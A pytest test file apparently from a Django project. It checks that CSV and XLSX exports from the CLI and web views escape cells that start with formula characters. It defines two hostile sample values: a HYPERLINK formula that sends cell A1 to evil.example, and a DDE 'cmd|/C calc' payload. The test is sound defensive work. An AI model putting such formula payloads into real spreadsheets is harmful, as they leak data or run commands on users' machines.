"""Spreadsheet formula injection: every export — web XLSX/CSV and the CLI's `registry export`,
`period template` and `evaluate --xlsx` — writes a cell that starts with =, +, -, @, tab or CR as text
(a leading apostrophe, `spreadsheet_cell`), and numbers as numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from tests.evaluation.conftest import Tiny
from tests.web.workflow_support import client_for_role, shift_to
from typer.testing import CliRunner

from sanjeh.cli.main import app
from sanjeh.evaluation.services import create_period, evaluate
from sanjeh.monitoring.models import Article
from sanjeh.registry.models import Agency
from sanjeh.web.choices import Role

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("https://evil.example/?"&A1,"بانک")'
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cells_of_xlsx(data: bytes | Path) -> list[object]:
    book = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def cells_of_csv(data: bytes | Path) -> list[str]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data.read_text(encoding="utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(cells: list[object], where: str, *, expect: str = NAME) -> None:
    """No text cell starts a formula, and the hostile text is there, escaped (so the check ran)."""
    texts = [c for c in cells if isinstance(c, str)]
    starting = [c for c in texts if c.startswith(FORMULA_START) and not _number(c)]
    assert not starting, (where, starting)
    assert "'" + expect in texts, (where, "the hostile cell is missing")


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.fixture
def hostile(tiny: Tiny) -> Tiny:
    Agency.objects.filter(code="a").update(name=NAME)
    Article.objects.filter(id=tiny.ids["a1"]).update(title=TITLE)
    return tiny


def test_cli_exports_escape_formula_cells(hostile: Tiny, tmp_path: Path) -> None:
    runner = CliRunner()
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"registry.{fmt}"
        done = runner.invoke(app, ["registry", "export", "--format", fmt, "--out", str(out)])
        assert done.exit_code == 0, done.output
        cells = cells_of_csv(out) if fmt == "csv" else cells_of_xlsx(out)
        assert_no_formula(cells, f"registry export {fmt}")
    # the apostrophe is sanjeh's own: importing the export gives the name back as it was
    assert runner.invoke(app, ["registry", "import", str(tmp_path / "registry.xlsx")]).exit_code == 0
    assert Agency.objects.get(code="a").name == NAME

    assert runner.invoke(app, ["period", "create", "1403-spring"]).exit_code == 0
    done = runner.invoke(app, ["period", "template", "1403-spring", "--out", str(tmp_path)])
    assert done.exit_code == 0, done.output
    assert_no_formula(cells_of_xlsx(tmp_path / "1403-spring.xlsx"), "period template xlsx")
    assert_no_formula(cells_of_csv(tmp_path / "1403-spring.csv"), "period template csv")

    book = tmp_path / "ranking.xlsx"
    args = ["evaluate", "--period", "1403-spring", "--draws", "20", "--xlsx", str(book), "--json"]
    done = runner.invoke(app, args)
    assert done.exit_code == 0, done.output
    cells = cells_of_xlsx(book)
    assert_no_formula(cells, "evaluate --xlsx")
    assert any(isinstance(c, float) for c in cells)  # scores stay numbers


def test_web_exports_escape_formula_cells(hostile: Tiny) -> None:
    period = create_period(name="1403-spring")
    evaluate(period=period, draws=20)
    evaluator = client_for_role(Role.EVALUATOR)
    downloads = {
        "ranking": "/reports/evaluation/1403-spring/ranking",
        "scorecard": "/reports/evaluation/1403-spring/agencies/a/scorecard",
        "media": "/reports/agencies/a/media",
    }
    for name, url in downloads.items():
        for fmt in ("xlsx", "csv"):
            response = evaluator.get(f"{url}.{fmt}")
            assert response.status_code == 200, (name, fmt)
            cells = cells_of_xlsx(response.content) if fmt == "xlsx" else cells_of_csv(response.content)
            if name == "media":
                assert_no_formula(cells, f"{name}.{fmt}", expect=TITLE)
            elif not (name == "scorecard" and fmt == "csv"):  # the scorecard CSV has no agency name
                assert_no_formula(cells, f"{name}.{fmt}")
            else:
                assert not [c for c in cells if c.startswith(FORMULA_START) and not _number(c)]

    shift_to(period, "evidence_due")
    officer = client_for_role(Role.AGENCY, "a")
    sheet = officer.get("/workflow/1403-spring/agencies/a/sheet/")
    assert sheet.status_code == 200
    assert_no_formula(cells_of_xlsx(sheet.content), "agency sheet template")
